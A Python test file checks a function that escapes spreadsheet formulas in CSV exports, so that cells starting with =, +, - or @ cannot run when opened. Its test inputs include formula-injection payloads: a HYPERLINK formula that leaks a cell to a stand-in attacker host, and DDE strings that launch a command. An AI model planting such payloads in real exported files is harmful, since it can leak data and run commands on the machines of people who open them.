"""Formula escaping in CSV files."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proprium.serialization.csv_cells import csv_bytes, escape_formulas


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tx",
        "\rx",
        "\nx",
        "＝1+1",
        " =1+1",
        '"=1+1',
        "=",
        "-",
        "--1",
        "+1 555 0100",
    ],
)
def test_formulas_are_escaped(text: str) -> None:
    assert escape_formulas(text) == f"'{text}"
    assert read(csv_bytes([[text]])) == [[f"'{text}"]]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("a;=cmd()", "a;'=cmd()"),
        ("a|=cmd()", "a|'=cmd()"),
        ("a\t=cmd()", "a\t'=cmd()"),
        ("a\n=cmd()", "a\n'=cmd()"),
        ("a\r\n-cmd()", "a\r\n'-cmd()"),
        ("\t=cmd()", "'\t'=cmd()"),
        ('a;"=cmd()"', 'a;\'"=cmd()"'),
        ("a; ＝cmd()", "a;' ＝cmd()"),
        ("=a;@b|+c", "'=a;'@b|'+c"),
        ("a;-5", "a;'-5"),
        ("a; b | c", "a; b | c"),
        ("a=b;c", "a=b;c"),
        ("two\r\nlines", "two\r\nlines"),
    ],
)
def test_formulas_after_a_separator_are_escaped(text: str, written: str) -> None:
    assert escape_formulas(text) == written
    assert read(csv_bytes([["x", text]])) == [["x", written]]
    assert restored(written) == text


@pytest.mark.parametrize("text", ["-1", "+1", "-0.5", "-1.5e-7", "1=1", "a@b.example", "/-/", "", "3-4", "'=1"])
def test_numbers_and_harmless_texts_are_unchanged(text: str) -> None:
    assert read(csv_bytes([[text, "x"]])) == [[text, "x"]]


def test_numbers_booleans_and_none() -> None:
    assert csv_bytes([[-1, 2.5, True, False, None, ""]]) == b"\xef\xbb\xbf-1,2.5,true,false,,\r\n"


def restored(cell: str) -> str:
    """Removes the apostrophes as the module documents."""
    return re.sub(r"(^|[;|\t\r\n])'", r"\1", cell)


@given(st.lists(st.text(), min_size=2, max_size=2))
def test_any_row_can_be_read_back(row: list[str]) -> None:
    [back] = read(csv_bytes([row]))
    assert back == [escape_formulas(cell.encode("utf-8", "replace").decode()) for cell in row]


# What formulas, separators, quotes and blanks make together; far more often than in any texts.
NASTY = st.text(st.sampled_from(list("=+-@＝;|\t\r\n\"', 5eax\u00a0")), max_size=12)


@given(st.lists(st.lists(NASTY | st.integers() | st.none(), min_size=3, max_size=3), min_size=1, max_size=3))
@settings(max_examples=500)
def test_no_parser_finds_a_formula_whatever_it_splits_at(rows: list[list[str | int | None]]) -> None:
    text = csv_bytes([["x", *row] for row in rows]).decode("utf-8-sig")
    for separator in (",", ";", "|", "\t"):
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            for line in csv.reader(io.StringIO(text, newline=""), delimiter=separator, quoting=quoting):
                if separator == "," and quoting == csv.QUOTE_NONE:
                    continue  # a reader of commas that knows no quotes reads no CSV at all
                for field in line:
                    begin = field.lstrip(' \u00a0"')[:1]
                    assert begin not in set("=+-@＝") or is_number_of_ours(field, rows)


def is_number_of_ours(field: str, rows: list[list[str | int | None]]) -> bool:
    """A number stands for itself. Where commas do not split, the rest of its line stands behind it."""
    numbers = [str(cell) for row in rows for cell in row if cell is not None and NUMBER.fullmatch(str(cell))]
    return any(field == number or field.startswith(f"{number},") for number in numbers)


NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?(e[+-]?[0-9]+)?")


@given(st.lists(NASTY.filter(lambda text: "'" not in text), min_size=1, max_size=4))
def test_every_text_can_be_restored(row: list[str]) -> None:
    [back] = read(csv_bytes([["x", *row]]))
    assert [restored(cell) for cell in back[1:]] == row


def test_every_file_begins_with_one_byte_order_mark() -> None:
    assert csv_bytes([["é"]]) == b"\xef\xbb\xbf\xc3\xa9\r\n"
    assert csv_bytes([["é"]], continues_file=True) == b"\xc3\xa9\r\n"


def test_every_csv_of_the_product_is_written_by_the_one_function() -> None:
    writes = re.compile(r"csv\.(writer|DictWriter)\b|\bfrom csv import|\.to_csv\(|write_csv\(|FORMAT CSV|utf-8-sig")
    root = Path(__file__).parents[2]
    sources = [path for folder in ("proprium", "collector", "maps") for path in (root / folder).rglob("*.py")]
    assert {path.relative_to(root).as_posix() for path in sources if writes.search(path.read_text())} == {
        "proprium/serialization/csv_cells.py"
    }


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
